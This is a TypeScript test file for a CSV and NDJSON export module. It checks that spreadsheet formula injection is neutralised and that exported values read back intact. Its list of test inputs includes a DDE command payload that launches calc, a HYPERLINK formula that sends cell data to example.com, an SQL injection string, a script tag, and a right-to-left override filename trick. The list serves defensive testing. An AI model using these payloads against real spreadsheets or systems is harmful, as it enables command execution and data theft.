import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type ExportRow, formulaSafe, toCsv, toNdjson } from './export.ts';

async function textOf(pieces: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const piece of pieces) text += piece;
  return text;
}
const csvOf = (rows: readonly ExportRow[], columns: readonly string[]) =>
  textOf(toCsv([rows], cells(columns)));
/** By name, as a row of an inbox is not. */
const cells = (columns: readonly string[]) => ({
  columns,
  cellsOf: (row: ExportRow) => columns.map((column) => row[column]),
});

/** Texts that have broken spreadsheets, parsers and terminals. */
const naughty = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?"&A1,"Click")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1"',
  'a,=1+1',
  'a;=1+1',
  "'; drop table customer; --",
  '<script>alert(1)</script>',
  '\u202etxt.exe',
  'ʼ',
  '田中さん',
  '👩‍👩‍👧',
  '\u001b[31m',
  'line one\r\nline two',
  '""',
  '',
];

describe('an exported CSV file', () => {
  test.each(naughty)('has no formula for %j and loses nothing of it', async (value) => {
    const [, [cell = ''] = []] = parse(await csvOf([{ note: value }], ['note']));
    expect(cell.replace(/^\s+/u, '')).not.toMatch(/^[=+\-@＝＋－＠]/u);
    expect(cell).not.toMatch(/^[\t\r\n]/);
    expect([value, `'${value}`]).toContain(cell);
  });

  test('never begins a text as a formula, and reads back', async () => {
    const text = fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom(...naughty));
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(text, text)), async (rows) => {
        const csv = await csvOf(
          rows.map(([a, b]) => ({ a, b })),
          ['a', 'b'],
        );
        expect(parse(csv)).toEqual([['a', 'b'], ...rows.map((row) => row.map(formulaSafe))]);
      }),
    );
  });

  test('is what another writer makes of the same cells', async () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom(...naughty),
      fc.double(),
      fc.constant(null),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(cell, cell)), async (rows) => {
        const named = rows.map(([a, b]) => ({ a, b }));
        const safe = rows.map((row) =>
          row.map((each) => (typeof each === 'string' ? formulaSafe(each) : each)),
        );
        const expected = stringify([['a', 'b'], ...safe], { quoted_string: true, record_delimiter: '\n' });
        expect(await csvOf(named, ['a', 'b'])).toBe(expected);
      }),
    );
  });

  test('knows a formula whether or not it looks at the beginning first', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...naughty)), (text) => {
        const isFormula = /^\s*[=+\-@\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}]|^[\t\r\n]/u.test(text);
        expect(formulaSafe(text)).toBe(isFormula ? `'${text}` : text);
      }),
    );
  });

  test('has the columns asked for, numbers bare and instants in ISO 8601', async () => {
    const rows = [
      { n: -5, big: 2n ** 60n, is: false, at: new Date(0), none: null, list: ['a', 'b'], secret: 'x' },
      { n: 1.5, text: '' },
    ];
    expect(await csvOf(rows, ['n', 'big', 'is', 'at', 'none', 'list', 'text'])).toBe(
      '"n","big","is","at","none","list","text"\n' +
        '-5,1152921504606846976,"false","1970-01-01T00:00:00.000Z",,"[""a"",""b""]",\n' +
        '1.5,,,,,,""\n',
    );
  });

  test('has its header even where there are no rows, and a piece of whole lines for each page', async () => {
    expect(await csvOf([], ['a', '=b'])).toBe('"a","\'=b"\n');
    const pieces: string[] = [];
    for await (const piece of toCsv([[{ n: 1 }, { n: 2 }], [], [{ n: 3 }]], cells(['n']))) pieces.push(piece);
    expect(pieces).toEqual(['"n"\n', '1\n2\n', '3\n']);
  });
});

describe('an exported NDJSON file', () => {
  test('has one object a line and every value as it is', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.record({ a: fc.string({ unit: 'grapheme' }), b: fc.integer() })),
        async (rows) => {
          const lines = (await textOf(toNdjson([rows]))).split('\n').slice(0, -1);
          expect(lines.map((line): unknown => JSON.parse(line))).toEqual(rows);
        },
      ),
    );
    expect(await textOf(toNdjson([[{ n: 2n ** 60n, at: new Date(0), text: '=1\n' }]]))).toBe(
      '{"n":"1152921504606846976","at":"1970-01-01T00:00:00.000Z","text":"=1\\n"}\n',
    );
  });
});
